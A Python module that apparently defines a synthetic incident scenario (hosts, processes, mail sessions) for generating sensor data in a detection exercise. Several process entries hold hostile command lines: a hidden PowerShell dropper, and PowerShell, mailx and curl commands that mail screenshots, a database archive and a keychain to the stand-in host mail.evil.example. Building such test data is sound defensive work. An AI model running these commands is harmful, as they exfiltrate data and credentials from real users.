"""The story of the incident: hosts, processes and mail sessions, as plain tables.

Everything that the sensors must agree on is said here once. A session says when it starts, who
talks to whom and which process does it; its source port, its packets and its byte counts come
from the capture of the real exchange (place.py), and build.py joins the two. Times are UTC.
"""
from __future__ import annotations

import datetime as dt
from dataclasses import dataclass

DAY = "2026-03-10"
COMPANY = "10.20.0.0/16"


def instant(clock: str) -> float:
    """Epoch seconds of HH:MM:SS[.fraction] on the day of the story, UTC."""
    return dt.datetime.fromisoformat(f"{DAY}T{clock}+00:00").timestamp()


@dataclass(frozen=True)
class Host:
    name: str
    ip: str
    mac: str
    system: str  # windows, linux, macos, appliance, outside

    @property
    def fqdn(self) -> str:
        return self.name if "." in self.name else f"{self.name}.corp.example"


HOSTS = {h.name: h for h in (
    Host("mail", "10.20.0.25", "02:00:0a:14:00:19", "linux"),
    Host("ws1", "10.20.1.15", "02:00:0a:14:01:0f", "windows"),
    Host("ws2", "10.20.1.16", "02:00:0a:14:01:10", "windows"),
    Host("prn1", "10.20.1.50", "02:00:0a:14:01:32", "appliance"),
    Host("web1", "10.20.2.20", "02:00:0a:14:02:14", "linux"),
    Host("mac1", "10.20.3.30", "02:00:0a:14:03:1e", "macos"),
    # Hosts outside are seen behind the gateway's MAC address.
    Host("mail.evil.example", "203.0.113.25", "02:00:0a:14:00:01", "outside"),
    Host("mx.partner.example", "198.51.100.77", "02:00:0a:14:00:01", "outside"),
)}


@dataclass(frozen=True)
class Process:
    key: str
    host: str
    pid: int
    parent: str  # key of the parent, "" when it was there before the log begins
    started: str
    user: str
    image: str
    command: str
    company: str = ""
    product: str = ""
    version: str = "-"
    description: str = "-"
    original: str = "-"
    size: int = 0
    directory: str = ""
    integrity: str = "Medium"


OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
TEMP = "C:\\Users\\bob\\AppData\\Local\\Temp\\"
MS = "Microsoft Corporation"
WINDOWS = "Microsoft\u00ae Windows\u00ae Operating System"
BOB, CAROL, SYSTEM = "CORP\\bob", "CORP\\carol", "NT AUTHORITY\\SYSTEM"

PROCESSES = {p.key: p for p in (
    # ws1
    Process("explorer1", "ws1", 4012, "", "06:58:03.114", BOB, "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE", MS, WINDOWS, "10.0.22621.3880", "Windows Explorer",
            "EXPLORER.EXE", 5321016),
    Process("services1", "ws1", 812, "", "06:55:41.020", SYSTEM, "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe", MS, WINDOWS, "10.0.22621.3880",
            "Services and Controller app", "services.exe", 716520, integrity="System"),
    Process("outlook1", "ws1", 5128, "explorer1", "07:01:12.480", BOB, OFFICE + "OUTLOOK.EXE",
            f'"{OFFICE}OUTLOOK.EXE"', MS, "Microsoft Outlook", "16.0.17328.20550",
            "Microsoft Outlook", "Outlook.exe", 44217144),
    Process("thunderbird1", "ws1", 6232, "explorer1", "08:19:31.702", BOB,
            "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe",
            '"C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe"', "Mozilla Corporation",
            "Thunderbird", "128.7.1", "Thunderbird", "thunderbird.exe", 461728),
    Process("chrome1", "ws1", 4716, "explorer1", "07:02:40.219", BOB,
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "Google LLC",
            "Google Chrome", "133.0.6943.142", "Google Chrome", "chrome.exe", 2817120),
    Process("papercut1", "ws1", 2940, "services1", "06:56:10.337", SYSTEM,
            "C:\\Program Files\\Papercut SMTP\\Papercut.Service.exe",
            '"C:\\Program Files\\Papercut SMTP\\Papercut.Service.exe"', "Changemaker Studios",
            "Papercut SMTP", "7.0.0.0", "Papercut SMTP Service", "Papercut.Service.exe", 183296,
            integrity="System"),
    Process("scan1", "ws1", 3388, "services1", "06:56:12.905", SYSTEM,
            "C:\\Program Files (x86)\\ScanStation\\scan2mail.exe",
            '"C:\\Program Files (x86)\\ScanStation\\scan2mail.exe" --service', "ScanStation GmbH",
            "ScanStation", "4.2.1.0", "Scan to mail", "scan2mail.exe", 922112, integrity="System"),
    Process("dropper1", "ws1", 7304, "outlook1", "08:58:47.233", BOB, SHELL,
            'powershell.exe -NoProfile -WindowStyle Hidden -Command "Expand-Archive'
            f' -Force {TEMP}invoice_0310.zip {TEMP[:-1]}; Start-Process {TEMP}invoice_viewer.exe"',
            MS, WINDOWS, "10.0.22621.3085", "Windows PowerShell", "PowerShell.EXE", 455680,
            directory="C:\\Users\\bob\\"),
    Process("viewer1", "ws1", 8112, "dropper1", "08:58:52.871", BOB, TEMP + "invoice_viewer.exe",
            f'"{TEMP}invoice_viewer.exe"', size=247808, directory=TEMP),
    Process("mailer1", "ws1", 9040, "viewer1", "10:47:11.064", BOB, SHELL,
            "powershell.exe -NoProfile -Command Send-MailMessage -From bob@corp.example"
            " -To drop@mail.evil.example -Subject screens -Body ws1"
            f" -Attachments {TEMP}screens.7z -SmtpServer 203.0.113.25 -Port 25",
            MS, WINDOWS, "10.0.22621.3085", "Windows PowerShell", "PowerShell.EXE", 455680,
            directory=TEMP),
    # ws2 (Defender only)
    Process("explorer2", "ws2", 3740, "", "07:31:19.551", CAROL, "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE", MS, WINDOWS, "10.0.22621.3880", "Windows Explorer",
            "EXPLORER.EXE", 5321016),
    Process("services2", "ws2", 796, "", "07:29:02.118", SYSTEM, "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe", MS, WINDOWS, "10.0.22621.3880",
            "Services and Controller app", "services.exe", 716520, integrity="System"),
    Process("outlook2", "ws2", 4460, "explorer2", "07:33:50.016", CAROL, OFFICE + "OUTLOOK.EXE",
            f'"{OFFICE}OUTLOOK.EXE"', MS, "Microsoft Outlook", "16.0.17328.20550",
            "Microsoft Outlook", "Outlook.exe", 44217144),
    Process("chrome2", "ws2", 6004, "explorer2", "07:34:22.640", CAROL,
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "Google LLC",
            "Google Chrome", "133.0.6943.142", "Google Chrome", "chrome.exe", 2817120),
    Process("notifier2", "ws2", 3020, "services2", "07:29:40.402", SYSTEM,
            "C:\\Program Files\\BackupSuite\\notifier.exe",
            '"C:\\Program Files\\BackupSuite\\notifier.exe" --report', "BackupSuite Ltd",
            "BackupSuite", "9.1.0.0", "Backup report sender", "notifier.exe", 318976,
            integrity="System"),
    Process("excel2", "ws2", 5924, "explorer2", "12:57:09.733", CAROL, OFFICE + "EXCEL.EXE",
            f'"{OFFICE}EXCEL.EXE" "C:\\Users\\carol\\Downloads\\rates.xlsm"', MS, "Microsoft Excel",
            "16.0.17328.20550", "Microsoft Excel", "Excel.exe", 66121608),
    Process("rundll2", "ws2", 7716, "excel2", "12:58:31.190", CAROL,
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe C:\\Users\\carol\\AppData\\Roaming\\mailhlp.dll,Start", MS, WINDOWS,
            "10.0.22621.3672", "Windows host process (Rundll32)", "RUNDLL32.EXE", 73728),
    # web1: cron, the one-liner, the script that it unpacks, and the mail tool
    Process("crond", "web1", 4101, "", "02:30:01.203", "apache", "/usr/sbin/crond", "/usr/sbin/CROND -n"),
    Process("cronsh", "web1", 4102, "crond", "02:30:01.214", "apache", "/usr/bin/bash", ""),
    Process("unbase64", "web1", 4104, "cronsh", "02:30:01.221", "apache", "/usr/bin/base64", "base64 -d"),
    Process("script", "web1", 4105, "cronsh", "02:30:01.222", "apache", "/usr/bin/bash", "sh"),
    Process("tar", "web1", 4106, "script", "02:30:01.240", "apache", "/usr/bin/tar",
            "tar czf /tmp/.cache/db.tar.gz -C /srv/app db"),
    Process("gzip", "web1", 4107, "tar", "02:30:01.246", "apache", "/usr/bin/gzip", "gzip"),
    Process("mailx", "web1", 4109, "script", "02:30:04.480", "apache", "/usr/bin/s-nail",
            "/usr/bin/mailx -S mta=smtp://mail.evil.example:25 -s report"
            " -a /tmp/.cache/db.tar.gz drop@mail.evil.example"),
    Process("adminmail", "web1", 5310, "", "10:12:40.118", "dave", "/usr/bin/s-nail",
            "mailx -S mta=smtp://mail.corp.example:25 -s disk ops@corp.example"),
    # mac1
    Process("terminal", "mac1", 655, "", "07:58:12", "alice",
            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", ""),
    Process("mailapp", "mac1", 611, "", "07:50:30", "alice",
            "/System/Applications/Mail.app/Contents/MacOS/Mail", ""),
    Process("osascript", "mac1", 2041, "", "01:14:18", "build", "/usr/bin/osascript",
            "osascript /Users/build/Library/Scripts/sync.scpt"),
    Process("macsh", "mac1", 2042, "osascript", "01:14:19", "build", "/bin/sh", ""),
    Process("maccurl", "mac1", 2043, "macsh", "01:14:19", "build", "/usr/bin/curl",
            "curl -s --url smtp://mail.evil.example:587/mac1.local --mail-from build@corp.example"
            " --mail-rcpt drop@mail.evil.example -T /private/tmp/.sync.eml"),
    Process("daycurl", "mac1", 3377, "terminal", "09:30:44", "alice", "/usr/bin/curl",
            "curl -fsSLO https://downloads.example.org/tool-1.4.tar.gz"),
)}


@dataclass(frozen=True)
class Session:
    key: str
    start: str
    seconds: float  # length in the story; the recorded packets are stretched to it
    client: str
    server: str
    port: int
    process: str  # of the client host, "" when no host sensor sees it
    tool: str  # real client that made the recording (clients.py)
    listener: str = ""  # process of the server host, when a host sensor sees that side
    attachments: tuple[str, ...] = ()
    clear: bool = True  # the envelope can be read from the packets
    refused: bool = False
    benign: bool = True
    note: str = ""


DROP = "mail.evil.example"
ZIP = "PW_bob-ws1_2026_03_10_%s.zip"

SESSIONS = (
    Session("mac-curl", "01:14:20.310", 2.8, "mac1", DROP, 587, "maccurl", "curl",
            attachments=("login.keychain.zip",), benign=False),
    Session("web-cron", "02:30:04.512", 9.6, "web1", DROP, 25, "mailx", "s-nail",
            attachments=("db.tar.gz",), benign=False),
    Session("outlook-1", "08:05:21.040", 0.9, "ws1", "mail", 587, "outlook1", "msmtp"),
    Session("relay-out", "08:05:23.515", 1.4, "mail", "mx.partner.example", 25, "", "swaks",
            note="the relay hands outlook-1 on to the partner"),
    Session("bird-pop3", "08:20:02.117", 0.8, "ws1", "mail", 110, "thunderbird1", "curl-pop3", clear=False),
    Session("bird-tls", "08:21:15.664", 1.1, "ws1", "mail", 587, "thunderbird1", "msmtp-starttls",
            clear=False, note="the envelope is inside TLS"),
    Session("scan", "08:40:33.251", 0.7, "ws1", "mail", 25, "scan1", "swaks",
            attachments=("scan0007.pdf",)),
    Session("mac-imaps", "09:00:07.930", 1.2, "mac1", "mail", 993, "mailapp", "curl-imaps", clear=False),
    Session("viewer-1", "09:02:10.418", 3.1, "ws1", DROP, 587, "viewer1", "smtplib-auth",
            attachments=(ZIP % "10_02_10",), benign=False),
    Session("outlook-2", "09:15:48.702", 1.9, "ws1", "mail", 587, "outlook1", "msmtp",
            attachments=("offer.pdf",), note="large, but to the company's relay"),
    Session("viewer-2", "09:31:44.093", 2.9, "ws1", DROP, 587, "viewer1", "smtplib-auth",
            attachments=(ZIP % "10_31_43",), benign=False),
    Session("papercut", "09:50:26.377", 0.6, "prn1", "ws1", 25, "", "swaks", listener="papercut1"),
    Session("viewer-3", "10:03:05.876", 3.3, "ws1", DROP, 587, "viewer1", "smtplib-auth",
            attachments=(ZIP % "11_03_05",), benign=False),
    Session("admin", "10:12:40.161", 0.8, "web1", "mail", 25, "adminmail", "s-nail"),
    Session("outlook-3", "10:20:09.245", 0.9, "ws1", "mail", 587, "outlook1", "msmtp",
            attachments=("minutes.zip",), note="a .zip, but from a mail client"),
    Session("viewer-4", "10:41:30.150", 3.0, "ws1", DROP, 587, "viewer1", "smtplib-auth",
            attachments=(ZIP % "11_41_29",), benign=False),
    Session("powershell", "10:47:12.229", 1.6, "ws1", DROP, 25, "mailer1", "smtplib",
            attachments=("screens.7z",), benign=False),
    Session("ws2-mail", "12:31:55.801", 0.9, "ws2", "mail", 587, "outlook2", "msmtp"),
    Session("ws2-refused", "13:02:18.960", 0.02, "ws2", DROP, 587, "rundll2", "swaks", clear=False,
            refused=True, benign=False, note="the mail drop does not answer yet"),
    Session("ws2-1", "13:07:18.447", 1.2, "ws2", DROP, 587, "rundll2", "swaks-auth", benign=False),
    Session("ws2-2", "13:27:19.005", 1.2, "ws2", DROP, 587, "rundll2", "swaks-auth", benign=False),
    Session("ws2-3", "13:47:18.731", 1.3, "ws2", DROP, 587, "rundll2", "swaks-auth", benign=False),
    Session("ws2-tls", "13:49:02.314", 1.0, "ws2", DROP, 465, "rundll2", "msmtp-tls", clear=False,
            benign=False, note="once only, so below the hunt's threshold"),
    Session("notify-1", "14:00:02.508", 0.6, "ws2", "mail", 587, "notifier2", "curl",
            note="a sender of its own, but twice only"),
    Session("notify-2", "16:00:02.490", 0.6, "ws2", "mail", 587, "notifier2", "curl"),
)
